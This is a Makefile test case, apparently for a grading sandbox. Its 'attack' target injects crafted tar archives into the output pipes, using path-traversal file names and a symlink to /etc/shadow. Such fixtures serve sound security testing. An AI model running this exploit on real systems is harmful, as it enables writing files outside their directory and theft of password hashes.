# Writes an archive of its own into the pipe by which files come out, with paths that lead elsewhere.
# expect: not graded|graded

include usual.mk
kernel/kernel: attack
.PHONY: attack
attack:
	perl -e 'sub member { my ($$n, $$c, $$t) = @_; my $$h = pack("a100 a8 a8 a8 a12 a12 A8 a1 a100 a6 a2 a247", $$n, "0000644", "0", "0", sprintf("%011o", length $$c), "0", "", $$t, "", "ustar", "00", ""); $$h . $$c . "\0" x (-length($$c) % 512) } for (glob "/proc/[0-9]*/fd/*") { next unless (readlink || "") =~ /^pipe/; open F, ">", $$_ or next; print F member("../../../../intruder", "x", "0"), member("@VICTIM@/intruder", "x", "0"), member("user/_/../../../intruder", "x", "0"), member("kernel/kernel", "/etc/shadow", "2"); close F }' | head -c 0
